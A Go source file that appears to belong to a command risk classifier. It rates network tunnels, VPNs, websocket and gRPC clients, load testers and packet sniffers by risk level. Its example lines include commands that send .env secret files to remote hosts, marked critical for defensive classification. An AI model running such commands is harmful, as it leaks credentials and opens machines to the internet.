package program

// tunnels: programs that open ways through a network, load it and listen to it.
var tunnels = []Entry{
	{
		Name:   "ngrok lt localtunnel bore frpc frps chisel pagekite sshuttle zrok devtunnel inlets",
		Source: "ngrok agent manual; localtunnel, bore, frp, chisel manuals: open this machine to the internet",
		Level:  high, Categories: network | publishes, Says: "{0} opens a way into this machine",
		Operands: "text...",
		Options: `
			-*
			--config=:look
			--subdomain=
			--authtoken=
			--port=
			-p=
			-c=:look
		`,
		Subs: []Entry{
			{Name: "version help", Level: low, Operands: "text..."},
			{Name: "authtoken", Level: high, Categories: accounts, Operands: "text..."},
		},
		Examples: `
			high NETWORK_RISK | ngrok http 8000
			high NETWORK_RISK | lt --port 8000
			low | ngrok version
			high ACCOUNT_CHANGE | ngrok authtoken x
		`,
	},
	{
		Name:   "tailscale cloudflared zerotier-cli netbird warp-cli",
		Source: "tailscale, cloudflared, zerotier-cli manuals",
		Level:  high, Categories: network | system, Operands: "", Options: `-* --socket=:make`,
		Subs: []Entry{
			{
				Name: "status version ip help licenses info peers listnetworks whois", Level: low,
				Operands: "text...", Options: `-*`,
			},
			{
				Name: "funnel serve tunnel access share", Level: high, Categories: network | publishes,
				Operands: "text...",
			},
			{
				Name: "login logout switch join leave set lock cert", Level: high,
				Categories: network | accounts | system, Operands: "text...",
			},
			{Name: "ssh nc", Level: high, Categories: network, Operands: "host run...", Stdin: SendsIt, Out: Download},
			{Name: "file", Level: critical, Categories: network, Operands: "text...", Stdin: SendsIt},
			{Name: "*", Level: high, Categories: network | system, Operands: "text..."},
		},
		Examples: `
			low | tailscale status
			high NETWORK_RISK SYSTEM_IMPACT | tailscale up
			high NETWORK_RISK | cloudflared tunnel --url http://localhost:8000
			critical NETWORK_RISK | tailscale file cp .env box:
		`,
	},
	{
		Name: "wg wg-quick openvpn openconnect vpnc ipsec swanctl pppd tor privoxy tinyproxy squid sslocal " +
			"ss-local v2ray xray sing-box",
		Source: "wg(8), openvpn(8), tor(1): they turn traffic another way; a configuration's hooks run commands",
		Level:  high, Categories: network | system | executes, Operands: "text...", Options: `-*`,
		Examples: `
			high SYSTEM_IMPACT NETWORK_RISK | wg-quick up wg0
			high EXEC_ARBITRARY | openvpn --config x.ovpn
		`,
	},
	{
		Name:   "mullvad nordvpn protonvpn expressvpn",
		Source: "mullvad, nordvpn manuals",
		Level:  high, Categories: network | system, Operands: "text...", Options: `-*`,
		Subs: []Entry{
			{Name: "status version help", Level: low, Operands: "text..."},
			{Name: "login logout account", Level: high, Categories: accounts | network, Operands: "text..."},
		},
		Examples: `
			low | mullvad status
			high SYSTEM_IMPACT NETWORK_RISK | mullvad connect
			high ACCOUNT_CHANGE | nordvpn login
		`,
	},
	{
		Name:   "websocat",
		Source: "websocat manual 1.13",
		Level:  high, Categories: network, Operands: "text...", Special: Tries, Stdin: SendsIt, Out: Download,
		Options: `
			-*
			-1bEknqStUv
			-H,--header=:sendable
			--exec,--sh-c=:run+critical
			--text --binary --one-message --no-close --exit-on-eof --insecure --unidirectional --unidirectional-reverse
			--ping-interval=
			--ping-timeout=
			--max-messages=
			--protocol=
			--origin=
		`,
		Examples: `
			high NETWORK_RISK | websocat wss://example.com
			medium | websocat -1 ws://localhost:8080/ws
			high NETWORK_RISK | websocat ws://localhost.example.com/ws
			high NETWORK_RISK | websocat ws://localhost:8080 sh-c:id
			critical NETWORK_RISK FS_CONFIG_SECRETS | websocat ws://localhost:8080 < .env
		`,
	},
	{
		Name: "wscat evans graphqurl mqtt mosquitto_pub mosquitto_sub amqp-publish amqp-consume " +
			"kcat kafkacat nats coap-client nghttp h2load hurl newman bru",
		Source: "websocat, wscat, mosquitto_pub(1), kcat(1), hurl manuals",
		Level:  high, Categories: network, Operands: "text...", Stdin: SendsIt, Out: Download,
		Options: `
			-*
			-d=:sendable
			-H=:sendable
			-m=:sendable
			-f=:sendfile
			--exec=:run+critical
			-o,--output=:write
			--proto=:read
		`,
		Examples: `
			high NETWORK_RISK | wscat -c wss://example.com
			critical FS_CONFIG_SECRETS | mosquitto_pub -h example.com -t x -f .env
		`,
	},
	{
		Name:   "grpcurl",
		Source: "grpcurl manual 1.9",
		Style:  Single, Level: high, Categories: network, Operands: "host text...", Special: Tries, Stdin: SendsIt,
		Out: Download,
		Options: `
			-*
			-plaintext -insecure -v -vv -emit-defaults -allow-unknown-fields -msg-template
			-d=:sendable
			-H=:sendable
			-rpc-header=:sendable
			-reflect-header=:sendable
			-proto=:read
			-protoset=:read
			-protoset-out=:write
			-proto-out-dir=:writedir
			-import-path=:look
			-cert=:read
			-key=:read
			-cacert=:look
			-authority=
			-max-time=
			-connect-timeout=
			-format=
		`,
		Examples: `
			medium | grpcurl -plaintext localhost:50051 list
			medium | grpcurl -plaintext -d '{"name":"x"}' localhost:50051 a.B/C
			high NETWORK_RISK | grpcurl -plaintext localhost.example.com:50051 list
			high NETWORK_RISK | grpcurl -servername localhost:1 example.com:443 list
			critical FS_CONFIG_SECRETS | grpcurl -d @ example.com:443 a.B/C < .env
			high FS_OUTSIDE_WORKSPACE | grpcurl -protoset-out /etc/x example.com:443 list
		`,
	},
	{
		Name:   "ab hey oha",
		Source: "ab(1), hey and oha manuals: load on a host",
		Level:  high, Categories: network, Says: "{0} puts load on a host", Operands: "text...", Special: Tries,
		Out: Fixed,
		Options: `
			-*
			-p=:sendfile
			-T=
			-H=:sendable
			-n=
			-c=
			-t=
			-d=:sendable
			-D=:sendable
			-m=
			-z=
			-o=:write
		`,
		Examples: `
			medium | ab -n 100 -c 10 http://localhost:8000/
			high NETWORK_RISK | hey -n 200 https://example.com
			high NETWORK_RISK | hey -x http://example.com:80 http://localhost:8000/
			critical FS_CONFIG_SECRETS | ab -p .env http://localhost:8000/
		`,
	},
	{
		Name: "wrk wrk2 siege vegeta bombardier k6 locust artillery autocannon speedtest " +
			"speedtest-cli fast iperf iperf3 netperf tsung jmeter gatling",
		Source: "ab(1), wrk, hey, k6, iperf3(1) manuals: load on a host",
		Level:  high, Categories: network, Says: "{0} puts load on a host", Operands: "text...", Out: Fixed,
		Options: `
			-*
			-p=:sendfile
			-T=
			-H=:sendable
			-n=
			-c=
			-t=
			-d=
			-s=:script
			-o=:write
			-b=
			-B=
			-f=
			-D=:sendable
		`,
		Examples: `
			high NETWORK_RISK | wrk -t 2 http://localhost:8000/
			high NETWORK_RISK | siege https://example.com
			high EXEC_ARBITRARY | wrk -s x.lua http://localhost
		`,
	},
	{
		Name:   "tcpdump",
		Source: "tcpdump(1), 4.99: -z runs a program on each file written",
		Level:  high, Categories: system | network, Says: "{0} listens to the network's traffic",
		Operands: "text...",
		Options: `
			-AbdefHIJKlLnNOpqStuUvxX#
			-r=:dry+read
			-D:dry
			-h:info
			-w=:writelog
			-z=:exec+executes
			-F=:read
			-i=
			-c=
			-C=
			-G=
			-W=
			-s=
			-B=
			-E=
			-j=
			-m=
			-M=
			-T=
			-V=:read
			-y=
			-Z=
			-Q=
			--count --immediate-mode --print
			--list-interfaces:dry
			--version:info
		`,
		Examples: `
			high SYSTEM_IMPACT | tcpdump -i eth0 port 80
			medium..critical EXEC_ARBITRARY | tcpdump -r a.pcap -w b -G 1 -z ./x.sh
			medium..high FS_DELETE_OVERWRITE | tcpdump -r a.pcap -w b.pcap
		`,
	},
	{
		Name: "tshark dumpcap wireshark ngrep tcpflow mitmproxy mitmdump mitmweb termshark sslsplit dsniff " +
			"iftop nethogs bmon kismet",
		Source: "tshark(1), mitmproxy manual: scripts given to them run",
		Level:  high, Categories: system | network | executes, Says: "{0} listens to the network's traffic",
		Operands: "text...",
		Options: `
			-*
			-r=:read
			-w=:write
			-s=:script
			-X=:script
			-i=
			-f=
			-Y=
			-T=
			-e=
			-c=
			-a=
			-b=
		`,
		Examples: `
			high SYSTEM_IMPACT | tshark -i eth0
			high EXEC_ARBITRARY | mitmdump -s x.py
		`,
	},
}
